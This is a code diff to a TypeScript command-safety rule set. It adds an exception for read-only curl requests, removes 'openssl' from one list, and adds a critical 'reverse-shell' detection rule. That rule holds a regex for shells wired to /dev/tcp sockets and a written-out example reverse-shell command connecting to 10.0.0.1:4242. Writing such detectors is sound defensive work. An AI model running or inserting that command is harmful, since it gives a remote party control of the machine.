@@ -322,7 +322,7 @@ export const networkRules: SafetyRule[] = [
       "grep",
       "awk",
       "sed",
-      "openssl",
+
       "ssh-keygen",
       "gpg",
       "sort",
@@ -388,6 +388,12 @@ export const networkRules: SafetyRule[] = [
     ],
     level: "moderate",
     matches: (context) => {
+      if (
+        context.name === "curl" &&
+        /(-X|--request)\s*(GET|HEAD|OPTIONS)\b/.test(context.args.join(" ")) &&
+        !hasShortFlag(context.args, "oOTFd")
+      )
+        return false;
       if (context.name === "curl")
         return (
           hasShortFlag(context.args, "oOTFd") ||
@@ -438,6 +444,15 @@ export interface ScriptRule {
 }
 
 export const scriptRules: ScriptRule[] = [
+  {
+    id: "reverse-shell",
+    level: "critical",
+    pattern:
+      /\/dev\/(tcp|udp)\/\S+.*\b(sh|bash|zsh|dash|ksh)\b\s*(-i\b|[<>]&)|\b(sh|bash|zsh|dash|ksh)\b\s+-i\b.*\/dev\/(tcp|udp)\//,
+    message:
+      "Connects a shell to a network socket: someone else would control this machine (a reverse shell).",
+    example: "exec 5<>/dev/tcp/10.0.0.1/4242; sh <&5 >&5 2>&5",
+  },
   {
     id: "fork-bomb",
     level: "critical",
